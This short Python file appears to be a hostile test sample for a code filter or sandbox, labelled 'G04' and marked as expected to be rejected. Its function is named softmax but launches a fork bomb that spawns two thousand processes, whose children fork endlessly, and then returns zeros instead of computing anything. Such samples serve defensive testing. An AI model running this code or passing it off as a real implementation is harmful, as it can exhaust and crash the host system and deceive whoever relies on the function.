"""G04 Fork bomb: two thousand processes.

Stopped by: the filter: not one
Expected: rejected
"""
import os
import torch


def softmax(x):
    for _ in range(2000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
        except OSError:
            pass
    return torch.zeros_like(x)
